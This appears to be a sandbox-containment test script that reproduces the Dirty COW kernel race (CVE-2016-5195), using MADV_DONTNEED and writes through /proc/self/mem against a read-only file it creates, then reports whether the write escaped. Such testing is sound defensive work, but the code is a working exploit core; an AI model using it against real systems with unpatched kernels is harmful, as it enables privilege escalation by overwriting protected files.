# what: CVE-2016-5195: races MADV_DONTNEED against writes through /proc/self/mem to a private mapping of a read-only file
# layers: new_root, landlock, kernel
import mmap
import os
import tempfile
import threading
import time

path = os.path.join(tempfile.gettempdir(), "cow")
with open(path, "wb") as file:
    file.write(b"original" * 512)
try:
    os.chmod(path, 0o400)
except OSError:
    pass
fd = os.open(path, os.O_RDONLY)
area = mmap.mmap(fd, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
stop = time.monotonic() + 0.5


def drop():
    while time.monotonic() < stop:
        area.madvise(mmap.MADV_DONTNEED)


def write():
    address = 0
    try:
        memory = os.open("/proc/self/mem", os.O_RDWR)
    except OSError:
        return
    for line in open("/proc/self/maps"):
        if path in line:
            address = int(line.split("-")[0], 16)
    while time.monotonic() < stop:
        os.pwrite(memory, b"DIRTYCOW", address)


threads = [threading.Thread(target=drop), threading.Thread(target=write)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
if os.pread(fd, 8, 0) != b"original":
    print("ESCAPED dirty cow")
os.unlink(path)
print("contained")
